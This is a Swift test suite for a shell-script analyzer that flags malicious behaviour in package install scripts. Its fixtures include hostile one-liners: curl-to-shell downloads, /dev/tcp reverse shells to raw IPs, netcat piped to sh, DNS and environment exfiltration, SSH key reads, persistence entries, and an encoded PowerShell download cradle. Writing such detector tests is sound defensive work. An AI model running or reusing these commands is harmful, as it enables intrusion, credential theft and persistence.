import Foundation
import LockgateCore
import Testing

@testable import Analysis

/// Shell one-liners and scripts: each example marks with `↓` where the behaviour must be reported.
@Suite struct ShellAnalyzerTests {
    static func steps(_ script: String) -> [ShellStep] {
        ShellAnalyzer().analyse(script, origin: ShellOrigin(path: "x.sh", context: .install))
    }

    static func behaviours(_ script: String) -> [Behaviour] {
        steps(script).compactMap { if case .behaviour(let behaviour) = $0 { behaviour } else { nil } }
    }

    @Test(
        arguments: [
            ("↓curl -fsSL https://evil.example/p.sh | sh", [BehaviourKind.useNetwork, .shellCommand]),
            ("curl -fsSL https://evil.example/p.sh | ↓sh", [.downloadExecute]),
            ("wget -O /tmp/x http://45.9.1.2/x && chmod +x /tmp/x && ↓/tmp/x", [.downloadExecute, .spawnProcess]),
            ("echo aGk= > payload && ↓./payload", [.writeExecute, .spawnProcess]),
            ("↓nslookup $(whoami).abc.oast.fun", [.dnsExfiltration]),
            ("↓nslookup example.com", [.dnsLookup]),
            ("↓env | curl -d @- https://x.example", [.readEnvironmentAll]),
            ("↓nohup node server.js &", [.hiddenProcess]),
            ("↓whoami; ↓uname -a", [.reconHost, .reconHost]),
            ("echo x >> ↓~/.bashrc", [.persistence, .writeFile]),
            ("(crontab -l; echo '@reboot /tmp/x') | ↓crontab -", [.persistence]),
            ("↓schtasks /create /sc onlogon /tn upd /tr x.exe", [.persistence]),
            ("↓launchctl load ~/Library/LaunchAgents/x.plist", [.persistence]),
            ("↓eval \"$(curl -s https://x.example/s)\"", [.evalCode, .downloadExecute]),
            ("↓bash -c 'curl -s http://x.example | bash'", [.shellCommand]),
            ("cat ↓~/.ssh/id_rsa | base64", [.readCredentialPath]),
            ("↓cat ~/.npmrc", [.readFile]),
            ("curl ↓https://discord.com/api/webhooks/1/abc -d x", [.urlWebhook]),
            ("echo ↓$NPM_TOKEN", [.readEnvironmentVariable]),
            ("↓powershell -w hidden -c calc", [.spawnProcess, .hiddenProcess]),
            ("↓nc 45.9.1.2 443 | sh", [.useNetwork]),
            ("nc ↓45.9.1.2 443 | ↓sh", [.urlRawIP, .downloadExecute]),
            ("ssh -R 80:localhost:8080 ↓nokey@45.9.1.2", [.urlRawIP]),
            ("↓bash -i >& /dev/tcp/45.9.1.2/4444 0>&1", [.downloadExecute]),
            ("bash -i >& ↓/dev/tcp/45.9.1.2/4444 0>&1", [.useNetwork, .urlRawIP]),
            ("echo `date` > ↓/dev/tcp/45.9.1.2/443", [.useNetwork, .urlRawIP]),
            ("(echo x > ↓/dev/tcp/34.1.2.3/443)||(:)", [.useNetwork, .urlRawIP]),
            ("exec 3<>↓/dev/tcp/45.9.1.2/80; cat <&3 | sh", [.useNetwork, .urlRawIP]),
        ] as [(String, [BehaviourKind])])
    func commandsReportBehavioursAtTheirMarks(marked: String, kinds: [BehaviourKind]) {
        let source = SequenceMarkedText(marked)
        let found = Self.behaviours(source.text)
        for (index, kind) in kinds.enumerated() {
            let mark = source.marks[min(index, source.marks.count - 1)]
            #expect(
                found.contains { $0.kind == kind && $0.line == mark.line && $0.column == mark.column },
                "\(kind) at \(mark) in \(source.text): \(found.map { "\($0.kind)@\($0.line):\($0.column)" })")
        }
    }

    @Test(arguments: [
        "node-gyp rebuild", "husky install", "tsc -p .", "echo done", "# curl https://x.example | sh",
        "rimraf dist && mkdirp lib", "echo \"curl x | sh\"", "prebuild-install || node-gyp rebuild",
    ])
    func benignCommandsReportNothing(script: String) {
        #expect(Self.behaviours(script).isEmpty, "\(Self.behaviours(script).map(\.kind))")
    }

    @Test(arguments: [
        "launchctl managername", "schtasks /query", "getconf GNU_LIBC_VERSION 2>&1 || true", "make >&2", "ls 3>&-",
    ])
    func queriesAndDescriptorCopiesNeitherPersistNorWrite(script: String) {
        let kinds = Self.behaviours(script).map(\.kind)
        #expect(!kinds.contains(.persistence) && !kinds.contains(.writeFile), "\(kinds)")
    }

    @Test func aSocketIsNotAFileAndLoopbackIsNotARawAddress() {
        let kinds = Self.behaviours("echo ok > /dev/tcp/127.0.0.1/8080; nc -z localhost 80; nc 10 20").map(\.kind)
        #expect(kinds.filter { $0 == .useNetwork }.count == 3, "\(kinds)")
        #expect(!kinds.contains(.writeFile) && !kinds.contains(.urlRawIP) && !kinds.contains(.downloadExecute))
    }

    @Test func windowsLaunchersHandOverThePackageFileTheyRun() {
        let steps = Self.steps(
            #"rundll32.exe shell32.dll, Control_RunDLL "%INIT_CWD%/src/sass.js" && wscript //B "lib\run.vbs""#
                + " && regsvr32 /s /i bin/x.dll && rundll32 url.dll,FileProtocolHandler calc.exe")
        let files = steps.compactMap { step -> String? in
            if case .runFile(let path, let interpreter, _, _) = step { return "\(interpreter.rawValue) \(path)" }
            return nil
        }
        #expect(files == ["direct src/sass.js", "direct lib/run.vbs", "direct bin/x.dll"], "\(files)")
    }

    @Test func interpretersHandOverFilesAndInlineCode() {
        let steps = Self.steps(
            "node scripts/install.js && node -e 'require(1)' && python3 -c \"import os\" "
                + "&& python -m pkg.tool && sh ./setup.sh && npm run build && bash -c 'node x.js' && ts-node a.ts")
        let follow = steps.compactMap { step -> String? in
            switch step {
            case .runFile(let path, let interpreter, _, _): "file \(interpreter.rawValue) \(path)"
            case .inlineCode(let code, let language, _, let column): "inline \(language.rawValue) \(code) @\(column)"
            case .runModule(let module, _, _): "module \(module)"
            case .runScript(let name): "script \(name)"
            case .behaviour: nil
            }
        }
        #expect(
            follow == [
                "file node scripts/install.js", "inline javascript require(1) @37", "inline python import os @64",
                "module pkg.tool", "file shell ./setup.sh", "script build", "file node x.js", "file node a.ts",
            ])
    }

    @Test func encodedPowerShellIsDecoded() {
        let command = "iex (iwr http://45.9.1.2/a.ps1)"
        let encoded = Data(command.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }).base64EncodedString()
        let found = Self.behaviours("powershell -NoP -NonI -W Hidden -Enc \(encoded)")
        let kinds = Set(found.map(\.kind))
        #expect(kinds.isSuperset(of: [.spawnProcess, .hiddenProcess, .useEncoding, .urlRawIP, .shellCommand]))
        #expect(found.first { $0.kind == .urlRawIP }?.snippet == "decoded: " + command)
    }

    @Test func heredocsAndSubstitutionsAreAnalysed() {
        let steps = Self.steps("python3 <<EOF\nimport os\nEOF\necho `curl -s https://a.ngrok.io`\n")
        #expect(steps.contains { if case .inlineCode("import os\n", .python, _, _) = $0 { true } else { false } })
        let kinds = steps.compactMap { if case .behaviour(let b) = $0 { b.kind } else { nil } }
        #expect(kinds.contains(.urlTunnel))
        #expect(kinds.contains(.useNetwork))
    }

    @Test func positionsFollowTheOrigin() {
        let origin = ShellOrigin(
            path: "package/package.json", line: 7, column: 20, context: .install,
            lines: Array(repeating: "  \"postinstall\": \"whoami; id -u\"", count: 10))
        let found = ShellAnalyzer().analyse("whoami\nid -u", origin: origin)
            .compactMap { if case .behaviour(let b) = $0 { b } else { nil } }
        #expect(found.map { "\($0.line):\($0.column)" } == ["7:20", "8:1"])
        #expect(found.first?.snippet == "\"postinstall\": \"whoami; id -u\"")
    }

    static let hostile = [
        String(repeating: "$(", count: 100_000), String(repeating: "'", count: 100_001), "\"unterminated $(x",
        String(repeating: "a | ", count: 50_000), "<<", "cat <<EOF", String(repeating: "`", count: 99_999),
        String(repeating: "\\", count: 10_001), "${", "%", "&>", "2>&1 >", "\u{0}\u{FFFD}",
        String(repeating: "x=$(y) ", count: 30_000), String(repeating: "a\n", count: 100_000),
    ]

    @Test(arguments: hostile.indices)
    func hostileScriptsNeverCrash(index: Int) {
        let start = Date()
        let steps = Self.steps(Self.hostile[index])
        #expect(steps.count <= ShellAnalyzer.maxSteps)
        #expect(Date().timeIntervalSince(start) < 5, "script #\(index)")
    }
}
